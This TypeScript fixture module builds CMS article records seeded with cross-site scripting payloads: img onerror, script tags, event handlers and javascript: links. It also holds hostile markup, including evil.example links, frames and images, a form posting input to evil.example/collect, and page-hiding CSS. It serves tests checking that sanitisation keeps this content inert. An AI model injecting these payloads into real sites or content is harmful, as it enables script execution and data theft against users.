/**
 * Insights whose CMS fields carry markup and script: what an editor's paste or a compromised feed could put in
 * a title, a summary, an author or a link. They live in their own scope, away from the blog's, for the demo
 * page and the tests that show such text stays text and never runs (site spec 2.3 link rule; DESIGN "All
 * HTML from the CMS or a service goes through DOMPurify").
 */
import type { HalDocument } from './types';

export const MARKUP_SAMPLES_SCOPE = '/content/documents/cm-samples/markup';
/** The hostile article's own folder, apart from the sample list's scope. */
export const HOSTILE_ARTICLE_SCOPE = '/content/documents/cm-samples/articles';

/** Each payload, if it ever ran, would count itself in window.cmXss. */
export const SCRIPT_PAYLOADS = {
  image: '<img src=x onerror="window.cmXss=(window.cmXss||0)+1">',
  script: '<script>window.cmXss=(window.cmXss||0)+1</script>',
  handler: '<b onmouseover="window.cmXss=(window.cmXss||0)+1">',
  link: 'javascript:window.cmXss=(window.cmXss||0)+1',
} as const;

export function markupSampleInsights(): HalDocument[] {
  const base = Date.UTC(2025, 10, 3, 14);
  const sample = (index: number, fields: Record<string, unknown>, scope = MARKUP_SAMPLES_SCOPE): HalDocument => {
    const name = `markup-sample-${index}`;
    return {
      _meta: {
        id: `markup-sample-${index}`,
        path: `${scope}/2025/${name}`,
        type: 'cm:BlogArticle',
        name,
      },
      name,
      publicationDate: base - index * 86_400_000,
      hidePublicationDate: false,
      types: ['Article'],
      itemType: 'Article',
      time: '2 min read',
      keys: ['equity'],
      ...fields,
    };
  };
  return [
    sample(1, {
      title: `Markup in a title ${SCRIPT_PAYLOADS.image}`,
      cardSummary: `${SCRIPT_PAYLOADS.script}A summary with a script element in it.`,
      summary: `${SCRIPT_PAYLOADS.script}A summary with a script element in it.`,
      html: { content: `<p>Body text ${SCRIPT_PAYLOADS.image}</p>` },
      authors: [{ displayName: `${SCRIPT_PAYLOADS.handler}Sample Author</b>`, title: 'Editor' }],
      links: [{ text: 'A link', url: SCRIPT_PAYLOADS.link }],
      LinkList: { links: [{ text: 'A link', url: SCRIPT_PAYLOADS.link }] },
    }),
    sample(2, {
      title: 'Entities &amp; markup: &lt;em&gt;escaped&lt;/em&gt; text',
      cardSummary: 'A summary with <b>bold</b> markup and an &quot;entity&quot;.',
      summary: 'A summary with <b>bold</b> markup and an &quot;entity&quot;.',
      types: [`Article${SCRIPT_PAYLOADS.image}`],
      keys: ['equity', `topic${SCRIPT_PAYLOADS.image}`],
      authors: [{ displayName: 'Sample Author', title: SCRIPT_PAYLOADS.script }],
    }),
    // An article whose body, key points, links and disclosure carry what a careless paste or a compromised feed
    // could: scripts, handlers, javascript: and //host links, images and frames from another host, and CSS. Only its
    // own page shows it (/csp/unsafe-article.html); it lies apart from the sample list's scope.
    sample(
      3,
      {
        title: `Hostile &amp; careless content ${SCRIPT_PAYLOADS.image}`,
        bannerSummary: `A summary ${SCRIPT_PAYLOADS.script}with &quot;references&quot;.`,
        cardSummary: 'A hostile article.',
        authors: [{ displayName: `${SCRIPT_PAYLOADS.handler}Sample Author</b>`, title: 'Editor' }],
        LinkList: { links: [{ text: 'A script link', url: SCRIPT_PAYLOADS.link }] },
        detailDocument: {
          keypoints: { title: 'Key points', content: { value: `<ul><li>First ${SCRIPT_PAYLOADS.image}</li></ul>` } },
          body: [
            {
              _meta: { type: 'hippostd:html' },
              content:
                `<p>Body text ${SCRIPT_PAYLOADS.script}${SCRIPT_PAYLOADS.image}</p>` +
                `<p><a href="${SCRIPT_PAYLOADS.link}">A script link</a> <a href="//evil.example/phish">A protocol-relative link</a> ` +
                '<a href="/about">A link of the site</a></p>' +
                '<p><img src="//evil.example/pixel.gif" alt="A pixel from another host"><img src="https://evil.example/a.png" alt="An image from another host"></p>' +
                '<style>:host, body { display: none !important; }</style>' +
                '<p style="position:fixed;inset:0;background:red">Styled to cover the page</p>' +
                '<iframe src="https://evil.example/frame"></iframe>' +
                '<form action="https://evil.example/collect"><input name="q"><button>Send</button></form>' +
                '<svg><use href="https://evil.example/sprite.svg#icon"></use></svg>',
            },
            {
              _meta: { type: 'cm:BlogParagraph' },
              paragraphTitle: `A paragraph ${SCRIPT_PAYLOADS.image}`,
              paragraphHTML: { value: `<p onclick="window.cmXss=(window.cmXss||0)+1">Click me</p>` },
              paragraphLinks: [
                { text: 'Script', url: SCRIPT_PAYLOADS.link },
                { text: 'Elsewhere', url: '//evil.example/next' },
              ],
              printHidden: false,
            },
            {
              _meta: { type: 'cm:ImageCompound' },
              title: 'An SVG from another host',
              caption: 'Its path names another host',
              svgPath: 'https://evil.example/chart.svg',
              downloadUrl: SCRIPT_PAYLOADS.link,
            },
            { _meta: { type: 'cm:CTIBlogQuote' }, quote: `${SCRIPT_PAYLOADS.script}Quoted text`, title: 'Someone' },
            { _meta: { type: 'cm:VideoCompound' }, videoId: '1' },
          ],
          printDisclosure: `<p>Disclosure ${SCRIPT_PAYLOADS.script}${SCRIPT_PAYLOADS.image}</p>`,
        },
      },
      HOSTILE_ARTICLE_SCOPE,
    ),
  ];
}
